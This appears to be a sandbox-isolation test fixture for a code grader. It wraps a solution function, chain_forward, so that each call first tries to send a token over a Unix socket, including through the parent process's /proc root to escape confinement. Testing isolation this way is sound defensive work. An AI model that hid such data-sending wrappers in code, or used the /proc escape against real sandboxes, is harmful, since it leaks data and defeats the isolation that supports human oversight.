# question: forward_vs_reverse
# base: solution
# Class 8: connect to a unix socket file (the test's listener, in a temp folder) and send
# the token, by path and through /proc/<parent>/root.
import os
import socket

TOKEN = "__TOKEN__"
PATH = "__PATH__"


def _attack():
    for root in ("", f"/proc/{os.getppid()}/root"):
        for kind, path in ((socket.SOCK_STREAM, root + PATH), (socket.SOCK_DGRAM, root + PATH + "d")):
            try:
                with socket.socket(socket.AF_UNIX, kind) as s:
                    s.settimeout(1)
                    s.connect(path)
                    s.send(TOKEN.encode())
                print("NET unix connected", path, kind)
            except OSError as e:
                print("NET unix refused", path, kind, e.errno)


_solution_forward = chain_forward


def chain_forward(As, x):
    _attack()
    return _solution_forward(As, x)
